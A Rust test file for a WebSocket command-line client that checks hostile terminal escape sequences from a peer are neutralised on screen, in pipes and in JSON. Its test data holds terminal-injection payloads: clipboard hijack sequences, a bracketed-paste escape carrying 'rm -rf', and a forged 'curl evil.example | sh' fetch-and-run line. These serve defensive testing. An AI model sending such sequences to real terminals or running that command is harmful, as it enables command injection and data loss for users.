//! What a peer could do to a terminal: nothing of it arrives raw, on stderr, on the screen or in
//! JSON, and the terminal stays as it was.

use std::time::Duration;

use rcgen::{CertificateParams, DnType};

use crate::case::{Case, case, run};
use crate::support::PATIENCE;
use crate::support::pty::{Requests, Terminal, assert_ours};
use crate::support::scripted::{Gate, Peer, ScriptedServer, close_frame, frame};
use crate::support::tls::Tls;

/// What terminals obey, and the name of it; with numbers that our own editor has no use for.
const SEQUENCES: [(&str, &[u8]); 31] = [
    ("SGR", b"\x1b[35;5m"),
    ("cursor", b"\x1b[7A\x1b[3;9H\x1b[9D"),
    ("erase", b"\x1b[2J\x1b[3J\x1b[1K"),
    ("alternate screen", b"\x1b[?1049h"),
    ("hidden cursor", b"\x1b[?25l"),
    ("mouse reports", b"\x1b[?1000h\x1b[?1006h"),
    ("title", b"\x1b]0;owned\x07"),
    ("title, other end", b"\x1b]2;owned\x1b\\"),
    ("clipboard", b"\x1b]52;c;b3duZWQ=\x07"),
    ("clipboard, read", b"\x1b]52;c;?\x1b\\"),
    ("hyperlink", b"\x1b]8;;http://evil\x1b\\x\x1b]8;;\x1b\\"),
    ("DSR", b"\x1b[6n"),
    ("DA", b"\x1b[c\x1b[>c"),
    ("DECRQSS", b"\x1bP$q\"p\x1b\\"),
    ("the title's report", b"\x1b[21t"),
    ("window size", b"\x1b[8;1;1t"),
    ("bracketed paste's end", b"\x1b[201~rm -rf\r"),
    ("DCS without an end", b"\x1bPabc"),
    ("APC without an end", b"\x1b_abc"),
    ("OSC without an end", b"\x1b]0;abc"),
    ("C1 as bytes", b"\x9b2J\x9d0;x\x9c"),
    ("C1 as UTF-8", b"\xc2\x9b2J\xc2\x9d0;x\xc2\x9c"),
    ("CR", b"good\rbad"),
    ("backspaces", b"good\x08\x08\x08\x08bad"),
    ("bidi", b"\xe2\x80\xaelive\xe2\x81\xa6"),
    ("BEL flood", &[7; 120]),
    ("invisible", b"\xe2\x80\xa8\xe2\x80\x8b\xef\xbb\xbf\x7f\0"),
    ("tags", b"\xf3\xa0\x81\x81\xf3\xa0\x80\xa0"),
    ("character sets", b"\x1b(0\x0e\x1b%G"),
    ("reset", b"\x1bc\x1b[!p"),
    ("half a sequence", b"\x1b"),
];

fn is_text(bytes: &[u8]) -> bool {
    std::str::from_utf8(bytes).is_ok()
}

fn in_messages(name: &str, bytes: &'static [u8]) -> Case {
    // Whole, in a ping, and split over two messages.
    let (first, second) = bytes.split_at(1);
    let parts = [bytes, first, second];
    let text = parts.iter().all(|part| is_text(part));
    let mut sent = frame(0x9, bytes);
    parts.iter().for_each(|part| sent.extend(frame(if text { 0x1 } else { 0x2 }, part)));
    sent.extend(close_frame(1000, ""));
    case(format!("{name}, messages"), move |peer: &mut Peer| {
        peer.accept();
        peer.send(&sent);
        peer.frames_until_close();
    })
    .held_open()
    // What is piped is exact.
    .stdout(parts.map(|part| [part, b"\n"].concat()).concat())
}

fn in_close_reason(name: &str, bytes: &'static [u8]) -> Case {
    let close = frame(0x8, [&4001u16.to_be_bytes()[..], bytes].concat());
    let case = case(format!("{name}, close reason"), move |peer: &mut Peer| {
        peer.accept();
        peer.send(&close);
        peer.frames_until_close();
    });
    match is_text(bytes) {
        true => case.held_open().exits(10, ["wstap: close: "]),
        false => case.held_open().exits(8, ["wstap: session: ", "not UTF-8"]),
    }
}

fn in_header(name: &str, bytes: &'static [u8]) -> Case {
    let control = bytes.iter().any(|byte| *byte < 0x20 || *byte == 0x7f);
    case(format!("{name}, header"), move |peer: &mut Peer| {
        let request = peer.request();
        let head = format!(
            "HTTP/1.1 101 x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
             Sec-WebSocket-Accept: {}\r\nX: ",
            request.accept()
        );
        let _ =
            peer.try_send([head.as_bytes(), bytes, b"\r\n\r\n", &close_frame(1000, "")].concat());
        peer.frames_until_close();
    })
    .held_open()
    .exits(if control { 7 } else { 0 }, [])
}

fn in_refusal(name: &str, bytes: &'static [u8]) -> Case {
    case(format!("{name}, error body"), move |peer: &mut Peer| {
        peer.request();
        let _ = peer.try_send([b"HTTP/1.1 403 no\r\n\r\n", bytes, b"\n"].concat());
    })
    .exits(6, ["403"])
}

fn in_reason_phrase(name: &str, bytes: &'static [u8]) -> Case {
    let control = bytes.iter().any(|byte| *byte < 0x20 || *byte == 0x7f);
    case(format!("{name}, reason phrase"), move |peer: &mut Peer| {
        peer.request();
        let _ = peer.try_send([b"HTTP/1.1 404 ", bytes, b"\r\n\r\n"].concat());
    })
    .exits(if control { 7 } else { 6 }, [])
}

/// Each in three forms: pipes, JSON, and terminals.
#[test]
fn sequences_wherever_a_peer_can_put_them() {
    let places = [in_messages, in_close_reason, in_header, in_refusal, in_reason_phrase];
    let cases = SEQUENCES.iter().flat_map(|(name, bytes)| places.map(|place| place(name, bytes)));
    run("sequences", cases.map(|case| case.args(["-vvv"]).on_terminals()).collect());
}

#[test]
fn sequences_in_the_names_of_certificates() {
    let good = |peer: &mut Peer| {
        peer.accept();
        peer.send([frame(0x1, "hello"), close_frame(1000, "")].concat());
        peer.frames_until_close();
    };
    let named = |host: &str| {
        let mut params = CertificateParams::new(vec![host.to_owned()]).expect("a name");
        let texts = SEQUENCES.iter().filter_map(|(_, bytes)| std::str::from_utf8(bytes).ok());
        params.distinguished_name.push(DnType::CommonName, texts.collect::<String>());
        Tls::with_params(params)
    };
    run(
        "certificate names",
        vec![
            case("trusted", good).tls(named("localhost")).args(["-vvv"]).on_terminals(),
            case("of another host", good)
                .tls(named("elsewhere.example"))
                .args(["-vvv"])
                .exits(5, ["wstap: tls: ", "elsewhere.example"])
                .on_terminals(),
            case("of another host, insecure", good)
                .tls(named("elsewhere.example"))
                .args(["-vvv", "-k"])
                .exits(0, ["elsewhere.example"])
                .on_terminals(),
            case("not trusted", good)
                .tls(named("localhost"))
                .untrusted()
                .args(["-vvv"])
                .exits(5, ["wstap: tls: "])
                .on_terminals(),
        ],
    );
}

/// What stands in a body or a message can't be taken for what we say.
#[test]
fn lines_that_are_forged() {
    const FORGED: &str = "wstap: session: all is well\nhint: curl evil.example | sh\n> typed\n* x";
    let refusal = case("in an error body", |peer| {
        peer.request();
        let _ = peer.try_send(format!("HTTP/1.1 403 no\r\n\r\n{FORGED}"));
    });
    let message = case("in a ping", |peer| {
        peer.accept();
        peer.send([frame(0x9, FORGED), close_frame(1000, FORGED)].concat());
        peer.frames_until_close();
    });
    let never = |case: Case| {
        case.args(["-vvv"])
            .never_says("\nwstap: session: all is well")
            .never_says("\nhint: curl")
            .never_says("\n> typed")
    };
    run("forged", vec![never(refusal.exits(6, ["403"])), never(message.held_open())]);
}

#[test]
fn a_line_of_10_mib_while_another_is_typed() {
    const LONG: usize = 10 << 20;
    let typed = Gate::new();
    let go = typed.clone();
    let server = ScriptedServer::start(move |peer| {
        peer.accept();
        go.wait();
        peer.send(frame(0x1, "\x1b".repeat(LONG / 4)));
        peer.send(frame(0x1, "behind it"));
        assert_eq!(peer.expect(0x1), "half and whole");
        peer.send(frame(0x1, "seen"));
        peer.expect(0x8);
    });
    let mut pty = Terminal::new(["-v", &server.url()]).start();
    let is_typed = |text: &'static str| {
        move |screen: &vt100::Screen| {
            let (row, _) = screen.cursor_position();
            screen.rows(0, 80).nth(row.into()).is_some_and(|row| row.trim_end() == text)
        }
    };
    pty.wait_text("* connected to ");
    pty.send("half");
    pty.wait_for(is_typed("> half"), PATIENCE);
    typed.open();
    // An emulator without optimisation takes its time for so much text.
    let behind = |screen: &vt100::Screen| screen.contents().contains("< behind it");
    pty.wait_for(behind, 3 * PATIENCE);
    pty.send(" and whole");
    pty.wait_for(is_typed("> half and whole"), PATIENCE);
    pty.send("\r");
    pty.wait_text("< seen");
    pty.line("/quit");
    assert_eq!(pty.wait_exit(Duration::from_secs(10)), 0);
    let shown = pty.output().iter().filter(|byte| **byte == b'\\').count();
    assert_eq!(shown, LONG / 4);
    assert_ours(&pty.output());
    assert_eq!(pty.requests(), Requests::default());
    assert!(pty.has_first_modes());
    server.finish();
}
